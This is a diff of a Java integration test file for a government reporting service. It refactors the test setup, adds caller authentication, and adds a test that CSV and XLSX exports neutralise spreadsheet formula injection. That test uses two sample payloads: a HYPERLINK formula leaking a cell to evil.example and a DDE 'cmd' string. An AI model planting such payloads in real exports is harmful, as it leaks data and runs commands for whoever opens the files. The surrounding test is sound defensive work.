@@ -1,37 +1,37 @@
 package vn.govcomm.reporting;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.bson.Document;
 import org.junit.jupiter.api.Test;
-import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.builder.SpringApplicationBuilder;
-import org.springframework.boot.test.context.SpringBootTest;
-import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.context.ConfigurableApplicationContext;
-import org.springframework.data.mongodb.core.MongoTemplate;
 import org.springframework.data.mongodb.core.query.Criteria;
 import org.springframework.data.mongodb.core.query.Query;
 import org.springframework.data.mongodb.core.query.Update;
-import org.springframework.kafka.core.KafkaTemplate;
-import org.springframework.test.context.DynamicPropertyRegistry;
-import org.springframework.test.context.DynamicPropertySource;
 import org.springframework.web.client.HttpClientErrorException;
 import org.springframework.web.client.RestClient;
 import tools.jackson.databind.JsonNode;
-import tools.jackson.databind.json.JsonMapper;
 import tools.jackson.databind.node.ObjectNode;
-import vn.govcomm.embedded.EmbeddedKafka;
-import vn.govcomm.embedded.EmbeddedMongo;
 import vn.govcomm.embedded.TopicProbe;
+import vn.govcomm.identity.Caller;
+import vn.govcomm.identity.testing.TestCallers;
 import vn.govcomm.reporting.projections.ReadModels;
 
 import java.io.ByteArrayInputStream;
+import java.io.StringReader;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
@@ -39,6 +39,8 @@ import java.util.Set;
 import java.util.TreeSet;
 import java.util.concurrent.BlockingQueue;
 import java.util.concurrent.LinkedBlockingQueue;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipFile;
 import java.util.stream.Stream;
 
 import static org.assertj.core.api.Assertions.assertThat;
@@ -46,48 +48,9 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.awaitility.Awaitility.await;
 
 /** The service over a real broker and a MongoDB-wire store: events in, reports, compliance, exports and stream out. */
-@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
-        properties = {"spring.config.name=reporting-service", "govcomm.reporting.stream.poll-interval=PT0.1S"})
-class ReportingIntegrationTests {
+class ReportingIntegrationTests extends ReportingServiceContext {
 
-    static final EmbeddedKafka KAFKA = EmbeddedKafka.start();
-    static final EmbeddedMongo MONGO = EmbeddedMongo.inMemory();
-    static final JsonMapper JSON = JsonMapper.builder().build();
     static final String AFTER_WINDOW = "2023-12-31T17:00:00Z";
-
-    @DynamicPropertySource
-    static void infrastructure(DynamicPropertyRegistry registry) {
-        registry.add("spring.kafka.bootstrap-servers", KAFKA::bootstrapServers);
-        registry.add("spring.mongodb.uri", () -> MONGO.uri("reporting"));
-    }
-
-    @LocalServerPort int port;
-    @Autowired KafkaTemplate<String, byte[]> kafka;
-    @Autowired MongoTemplate mongo;
-
-    RestClient http() {
-        return RestClient.create("http://localhost:" + port);
-    }
-
-    JsonNode get(String uri, Object... vars) {
-        return JSON.readTree(http().get().uri(uri, vars).retrieve().body(String.class));
-    }
-
-    String settledScenario() {
-        String id = Scenario.randomCampaignId();
-        new Scenario(kafka, id).publishAll();
-        await().atMost(Duration.ofSeconds(30)).ignoreExceptions().untilAsserted(() -> {
-            JsonNode report = get("/api/reports/campaigns/{id}", id);
-            assertThat(report.path("total").asInt()).isEqualTo(8);
-            assertThat(report.path("byChannel").path("facebook").path("FAILED").asInt()).isEqualTo(1);
-            assertThat(report.path("byChannel").path("zalo").path("ACCEPTED").asInt()).isEqualTo(1);
-            assertThat(report.path("byChannel").path("led").path("ACCEPTED").asInt()).isEqualTo(1);
-            assertThat(report.path("byStatus").path("PUBLISHED").asInt()).isEqualTo(4);
-            assertThat(get("/api/reports/campaigns/{id}/compliance", id).path("agencies").get(0).path("name").asString())
-                    .isNotEqualTo("so-y-te");
-        });
-        return id;
-    }
 
     @Test
     void countsFollowTheEventsDespiteDuplicatesAndOutOfOrderArrival() {
@@ -140,8 +103,11 @@ class ReportingIntegrationTests {
                 "--spring.config.name=reporting-service", "--server.port=0",
                 "--spring.kafka.bootstrap-servers=" + KAFKA.bootstrapServers(),
                 "--spring.mongodb.uri=" + MONGO.uri("reporting"), "--govcomm.database=reporting_replay",
-                "--govcomm.reporting.group-prefix=reporting-replay", "--spring.main.banner-mode=off")) {
-            RestClient replayed = RestClient.create("http://localhost:" + replay.getEnvironment().getProperty("local.server.port"));
+                "--govcomm.reporting.group-prefix=reporting-replay", "--spring.main.banner-mode=off",
+                "--" + TestCallers.PUBLIC_KEYS_PROPERTY + "=" + TestCallers.publicKeys())) {
+            RestClient replayed = RestClient.builder()
+                    .baseUrl("http://localhost:" + replay.getEnvironment().getProperty("local.server.port"))
+                    .requestInterceptor(Callers.as(Callers.ISSUING, Caller.OFFICER)).build();
             String compliance = "/api/reports/campaigns/{id}/compliance?asOf=" + AFTER_WINDOW;
             await().atMost(Duration.ofSeconds(60)).ignoreExceptions().untilAsserted(() -> {
                 assertThat(withoutRev(replayed.get().uri("/api/reports/campaigns/{id}?size=3", id).retrieve().body(String.class)))
@@ -246,7 +212,8 @@ class ReportingIntegrationTests {
         String id = settledScenario();
         mongo.updateFirst(Query.query(Criteria.where("_id").is(id)), new Update().set("total", 99).set("byStatus.FAILED", 7),
                 ReadModels.COUNTS);
-        JsonNode recounted = JSON.readTree(http().post().uri("/api/reports/campaigns/{id}/recount", id).retrieve().body(String.class));
+        JsonNode recounted = JSON.readTree(as(Callers.OTHER, Caller.ADMIN).post()
+                .uri("/api/reports/campaigns/{id}/recount", id).retrieve().body(String.class));
         assertThat(recounted.path("total").asInt()).isEqualTo(8);
         assertThat(recounted.path("byStatus").path("FAILED").asInt()).isEqualTo(1);
     }
@@ -291,6 +258,86 @@ class ReportingIntegrationTests {
     }
 
     @Test
+    void exportsShowFormulaLikeNamesAndReasonsAsTextNeverAsFormulas() throws Exception {
+        String id = Scenario.randomCampaignId();
+        String agency = "agency-" + id;
+        String name = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Bấm vào đây\")";
+        String reason = "@SUM(1+1)*cmd|' /C calc'!A0";
+        Scenario scenario = new Scenario(kafka, id);
+        scenario.scheduled(List.of(agency));
+        scenario.agency(agency, name);
+        scenario.request(agency, "facebook");
+        scenario.status(agency, "facebook", "FAILED", "-2+3", reason);
+        scenario.request(agency, "portal");
+        scenario.status(agency, "portal", "FAILED", "+PORTAL", "\t=1+1");
+        await().atMost(Duration.ofSeconds(30)).ignoreExceptions().untilAsserted(() -> {
+            JsonNode grid = get("/api/reports/campaigns/{id}/compliance", id);
+            assertThat(grid.path("agencies").get(0).path("name").asString()).isEqualTo(name);
+            assertThat(grid.path("totals").path("failedCells").asInt()).isEqualTo(2);
+        });
+
+        // CSV: every cell that would start a formula starts with ' instead (one guard for both CSV exports).
+        String deliveries = http().get().uri("/api/reports/campaigns/{id}/export/deliveries.csv", id).retrieve().body(String.class);
+        List<CSVRecord> rows = csv(deliveries);
+        assertThat(rows).hasSize(3);
+        CSVRecord facebook = rows.stream().filter(r -> r.get(3).equals("Facebook")).findFirst().orElseThrow();
+        assertThat(facebook.get(2)).isEqualTo("'" + name);
+        assertThat(facebook.get(8)).isEqualTo("'-2+3");
+        assertThat(facebook.get(9)).isEqualTo("'" + reason);
+        CSVRecord portal = rows.stream().filter(r -> r.get(3).equals("Cổng/Trang TTĐT")).findFirst().orElseThrow();
+        assertThat(portal.get(8)).isEqualTo("'+PORTAL");
+        assertThat(portal.get(9)).isEqualTo("'\t=1+1");
+        String compliance = http().get().uri("/api/reports/campaigns/{id}/export/compliance.csv", id).retrieve().body(String.class);
+        List<CSVRecord> grid = csv(compliance);
+        assertThat(grid.get(1).get(2)).isEqualTo("'" + name);
+        for (List<CSVRecord> export : List.of(rows, grid)) {
+            export.forEach(r -> r.forEach(cell -> assertThat(cell).as("cell of %s", r).doesNotStartWith("=")
+                    .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")
+                    .doesNotStartWith("\r")));
+        }
+
+        // XLSX: the same texts, verbatim, as string cells; not one formula in the workbook.
+        byte[] xlsx = http().get().uri("/api/reports/campaigns/{id}/export/report.xlsx", id).retrieve().body(byte[].class);
+        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
+            Cell gridName = workbook.getSheet("Tuân thủ").getRow(1).getCell(2);
+            assertThat(gridName.getCellType()).isEqualTo(CellType.STRING);
+            assertThat(gridName.getStringCellValue()).isEqualTo(name);
+            List<String> reasons = new ArrayList<>();
+            for (Row row : workbook.getSheet("Chi tiết")) {
+                reasons.add(row.getCell(9).getStringCellValue());
+                assertThat(row.getCell(2).getCellType()).isEqualTo(CellType.STRING);
+            }
+            assertThat(reasons).contains(reason, "\t=1+1");
+            for (Sheet sheet : workbook) {
+                for (Row row : sheet) {
+                    for (Cell cell : row) {
+                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress())
+                                .isNotEqualTo(CellType.FORMULA);
+                    }
+                }
+            }
+        }
+        Path file = Files.write(Files.createTempFile("report", ".xlsx"), xlsx);
+        try (ZipFile zip = new ZipFile(file.toFile())) {
+            List<? extends ZipEntry> sheets = zip.stream().filter(e -> e.getName().startsWith("xl/worksheets/sheet")).toList();
+            assertThat(sheets).hasSize(3);
+            for (ZipEntry sheet : sheets) {
+                try (var in = zip.getInputStream(sheet)) {
+                    assertThat(new String(in.readAllBytes(), StandardCharsets.UTF_8)).as(sheet.getName())
+                            .doesNotContain("<f>", "<f ");
+                }
+            }
+        } finally {
+            Files.delete(file);
+        }
+    }
+
+    private static List<CSVRecord> csv(String body) throws java.io.IOException {
+        assertThat(body).startsWith("\uFEFF");
+        return CSVFormat.EXCEL.parse(new StringReader(body.substring(1))).getRecords();
+    }
+
+    @Test
     void printViewIsAnHtmlPageWithAPrintStylesheetAndTheNonCompliantList() {
         String id = settledScenario();
         String html = http().get().uri("/api/reports/campaigns/{id}/export/print", id).retrieve().body(String.class);
@@ -304,7 +351,8 @@ class ReportingIntegrationTests {
         BlockingQueue<String> lines = new LinkedBlockingQueue<>();
         HttpClient client = HttpClient.newHttpClient();
         HttpResponse<Stream<String>> response = client.send(HttpRequest.newBuilder(
-                URI.create("http://localhost:" + port + "/api/reports/campaigns/" + id + "/stream")).build(),
+                URI.create("http://localhost:" + port + "/api/reports/campaigns/" + id + "/stream"))
+                        .header("Authorization", Callers.bearer(Callers.ISSUING, Caller.VIEWER)).build(),
                 HttpResponse.BodyHandlers.ofLines());
         assertThat(response.headers().firstValue("content-type").orElseThrow()).startsWith("text/event-stream");
         Thread reader = Thread.ofVirtual().start(() -> response.body().forEach(lines::add));
